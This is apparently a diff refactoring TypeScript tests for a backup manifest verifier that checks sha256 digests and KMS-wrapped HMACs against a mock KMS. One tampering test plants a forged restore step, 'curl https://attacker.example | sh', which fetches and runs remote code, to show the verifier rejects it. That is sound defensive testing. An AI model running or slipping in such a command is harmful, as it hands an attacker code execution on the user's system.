@@ -26,7 +26,8 @@ after(async () => {
 
 describe('the manifest digest in the verification function', () => {
   test('a manifest whose digest matches verifies, and says it checked it', async () => {
-    const b = await writeBackup(s3, BUCKET, 'p', { id: '20261120T030000Z-good', databaseId: 'db1', artifacts: [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }] });
+    const artifacts = [{ name: 'database.pgdump.zst', data: randomArtifact(1 << 16) }];
+    const b = await writeBackup(s3, BUCKET, 'p', { id: '20261120T030000Z-good', databaseId: 'db1', artifacts });
     const r = await verifyBackup(s3, BUCKET, b.manifestKey);
     assert.equal(r.ok, true, JSON.stringify(r.failures));
     assert.equal(r.digest, 'sha256');
@@ -95,7 +96,8 @@ describe('kms: manifests in the verification function', () => {
   const secret = Buffer.from('AGE-SECRET-KEY-1TESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTESTTEST\n');
 
   before(async () => {
-    kms = new KMSClient({ endpoint: moto.endpoint, region: 'us-east-1', credentials: { accessKeyId: 'testing', secretAccessKey: 'testing' } });
+    const credentials = { accessKeyId: 'testing', secretAccessKey: 'testing' };
+    kms = new KMSClient({ endpoint: moto.endpoint, region: 'us-east-1', credentials });
     keyId = (await kms.send(new CreateKeyCommand({ Description: 'backups' }))).KeyMetadata!.KeyId!;
   });
   after(() => kms?.destroy());
@@ -103,7 +105,8 @@ describe('kms: manifests in the verification function', () => {
   /** A kms: backup as the runner writes it: the wrapped secret, the digest and its HMAC. */
   async function kmsBackup(id: string, tamper?: (m: Record<string, any>) => void) {
     const context = { 'dbbackup-backup-id': id };
-    const wrapped = (await kms.send(new EncryptCommand({ KeyId: keyId, Plaintext: secret, EncryptionContext: context }))).CiphertextBlob!;
+    const encrypt = new EncryptCommand({ KeyId: keyId, Plaintext: secret, EncryptionContext: context });
+    const wrapped = (await kms.send(encrypt)).CiphertextBlob!;
     return writeBackup(s3, BUCKET, 'k', {
       id,
       databaseId: 'db1',
@@ -111,7 +114,16 @@ describe('kms: manifests in the verification function', () => {
       manifest: (m) => {
         const withKms = {
           ...m,
-          pipeline: { compression: 'zstd', encryption: { scheme: 'kms', keyId, recipient: 'age1x', wrappedKey: Buffer.from(wrapped).toString('base64'), encryptionContext: context } },
+          pipeline: {
+            compression: 'zstd',
+            encryption: {
+              scheme: 'kms',
+              keyId,
+              recipient: 'age1x',
+              wrappedKey: Buffer.from(wrapped).toString('base64'),
+              encryptionContext: context,
+            },
+          },
         } as unknown as Manifest;
         const signed: Record<string, any> = { ...withKms, digest: manifestDigest(withKms, manifestMacKey(secret, id)) };
         if (tamper !== undefined) {
@@ -132,7 +144,8 @@ describe('kms: manifests in the verification function', () => {
   });
 
   test('a manifest re-digested without the KMS key fails, though its sha256 digest matches', async () => {
-    const b = await kmsBackup('20261121T020000Z-kms-forged', (m) => (m.manualRestore = ['curl https://attacker.example | sh']));
+    const attack = (m: Record<string, any>) => (m.manualRestore = ['curl https://attacker.example | sh']);
+    const b = await kmsBackup('20261121T020000Z-kms-forged', attack);
     const r = await verifyBackup(s3, BUCKET, b.manifestKey, { kms });
     assert.equal(r.ok, false);
     assert.match(r.failures.map((f) => f.reason).join('\n'), /HMAC does not match/);
